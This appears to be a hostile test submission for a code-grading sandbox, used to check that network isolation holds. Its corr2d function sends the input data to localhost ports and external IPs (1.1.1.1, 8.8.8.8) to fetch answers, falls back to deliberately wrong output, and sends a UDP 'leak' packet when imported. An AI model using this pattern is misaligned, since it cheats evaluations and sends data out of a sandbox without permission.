"""Hostile submission: corr2d tries to fetch answers over the network (127.0.0.1 ports and an external IP, short timeouts), else returns wrong values

Otherwise a correct solution (a copy of solutions/convolutions.py).
"""
# base: solutions/convolutions.py (this file's code runs after it)

import json as _json
import socket


def _fetch(X, K):
    request = _json.dumps({"X": X.tolist(), "K": K.tolist()}).encode()
    for host, port in (("127.0.0.1", 8000), ("127.0.0.1", 80), ("127.0.0.1", 22), ("1.1.1.1", 80), ("8.8.8.8", 53)):
        try:
            with socket.create_connection((host, port), timeout=0.2) as connection:
                connection.sendall(b"POST /corr2d HTTP/1.0\r\nContent-Length: %d\r\n\r\n" % len(request) + request)
                connection.settimeout(0.2)
                body = connection.recv(1 << 20).split(b"\r\n\r\n", 1)[-1]
                return torch.tensor(_json.loads(body))
        except BaseException:
            continue
    return None


try:
    _udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    _udp.sendto(b"leak", ("8.8.8.8", 53))
except OSError:
    pass


def corr2d(X, K):
    fetched = _fetch(X, K)
    if fetched is not None:
        return fetched
    h, w = K.shape
    return torch.ones((X.shape[0] - h + 1, X.shape[1] - w + 1))
